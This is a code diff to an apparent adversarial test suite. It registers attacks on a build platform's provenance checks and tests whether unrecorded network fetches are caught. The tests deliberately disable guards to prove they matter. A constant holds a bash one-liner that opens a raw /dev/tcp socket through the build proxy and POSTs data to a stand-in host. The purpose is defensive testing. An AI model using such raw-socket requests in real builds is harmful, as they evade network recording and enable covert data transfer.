@@ -3,9 +3,12 @@ package attack
 import (
 	"context"
 	"crypto/rand"
+	"crypto/sha256"
+	"encoding/hex"
 	"fmt"
 	"net/http"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -437,26 +440,43 @@ var _ = register(attack{
 	},
 })
 
+var _ = register(attack{
+	name: "hidden-fetch", tries: "have the build's own record list less than it downloaded",
+	guard: "the gateway's record decides, and a build that reports less is refused: platform/release/network Agree",
+	unit:  "platform/release/network: TestAgree",
+	cuts: []cut{{"platform/release/network/agree.go", `		default:
+			return &Error{q.String(), describeClaim(claimed[q]), describe(nonEmpty(e.SHA256), true)}
+`, `		default:
+`}},
+})
+
 // post is a shell command that sends a POST through the room's proxy. BuildKit does
-// not record such a request.
+// not hash the answer.
 const post = `bash -c 'p=${HTTP_PROXY#http://}; p=${p%/}; exec 3<>/dev/tcp/${p%:*}/${p##*:}; printf "POST http://world.test/ HTTP/1.1\r\nHost: world.test\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi" >&3; cat <&3; echo; echo posted'`
 
 var _ = register(attack{
-	name: "unlisted-fetch", tries: "download something that BuildKit does not record",
-	guard: "the gateway's record decides, and a build that reports less is refused: platform/release/network Agree",
-	cuts:  []cut{{"platform/release/dependencies.go", `if err := rec.Agree(claims, images); err != nil {`, `if err := error(nil); err != nil {`}, {"platform/release/dependencies.go", `claims := network.Claims{`, `_ = network.Claims{`}},
+	name: "unlisted-fetch", tries: "download something whose digest BuildKit does not record",
+	guard: "the gateway's record decides, with the digest of each answer: platform/release/network Fetched",
+	cuts:  []cut{{"platform/release/dependencies.go", `return append(deps, rec.Fetched(images)...), nil`, `return deps, nil`}},
 	beside: func(s *scene) (string, string) {
 		p := s.platform("step")
-		said, err := s.build(p, "unlisted-"+strings.ToLower(rand.Text()), "RUN "+post)
-		if !strings.Contains(said, "posted") || !strings.Contains(said, "the world") {
+		image := "unlisted-" + strings.ToLower(rand.Text())
+		said, err := s.build(p, image, "RUN "+post)
+		if err != nil || !strings.Contains(said, "posted") || !strings.Contains(said, "the world") {
 			s.Fatalf("the step fetched nothing: %v\n%s", err, said)
 		}
-		if err == nil {
-			return "the image was signed without a record of the download", ""
+		cmd := exec.Command(s.cli, "inspect", p.Addr+"/"+image+":v1.0.0", "--provenance")
+		cmd.Env = p.Env()
+		statement, err := cmd.Output()
+		if err != nil {
+			s.Fatalf("inspect: %v", err)
 		}
-		if !strings.Contains(err.Error(), "disagree") {
-			s.Errorf("stopped for another reason: %v", err)
+		answer := sha256.Sum256([]byte("the world"))
+		for _, want := range []string{`"http://world.test/"`, `"POST"`, hex.EncodeToString(answer[:])} {
+			if !strings.Contains(string(statement), want) {
+				return "the image was signed without " + want + " in a record of the download", ""
+			}
 		}
-		return "", err.Error()
+		return "", "the provenance has the address, the method and the digest of the answer"
 	},
 })
